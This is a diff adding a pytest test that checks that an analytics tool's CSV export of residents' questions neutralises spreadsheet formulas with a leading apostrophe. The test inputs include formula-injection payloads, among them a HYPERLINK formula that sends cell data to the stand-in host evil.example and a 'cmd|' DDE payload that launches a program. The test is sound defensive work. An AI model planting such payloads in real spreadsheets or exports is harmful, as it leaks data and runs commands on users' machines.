@@ -137,3 +137,27 @@ def test_topics_keep_their_identity_status_and_verification(tmp_path, embedder) 
     [shown] = gap_report(store, council, embedder, _Index(), since, until)["topics"]
     assert shown["status"] == "verified" and shown["verification"]["answered"] == 4
     engine.dispose()
+
+
+@pytest.mark.parametrize("question", [
+    '=HYPERLINK("http://evil.example/?"&A1,"Click")', "+1+cmd|' /C calc'!A0", "-2+3",
+    "@SUM(A1:A2)", "\t=1+1", "\r=1+1", "  =1+1",
+])
+def test_exports_neutralise_spreadsheet_formulas(question) -> None:
+    """Residents' questions go into the CSV exports raw: a cell a spreadsheet would run as a
+    formula is written with a leading apostrophe (found by an outside test)."""
+    import csv
+    import io
+
+    from analytics.gaps import gaps_to_csv
+
+    report = {"topics": [{
+        "topic_id": 1, "status": "new", "label": "x", "volume": 2, "calls_at_stake": 1,
+        "previous_volume": 3, "trend": -1, "representative": question, "nearest_page": None,
+        "nearest_similarity": None, "suggestion": "new page", "questions": [question, "ok"]}],
+        "method": []}
+    rows = list(csv.reader(io.StringIO(gaps_to_csv(report))))
+    row = dict(zip(rows[0], rows[1], strict=True))
+    assert row["representative"] == "'" + question
+    assert row["examples"] == "'" + question + " | ok"
+    assert row["trend"] == "-1"  # a number stays a number
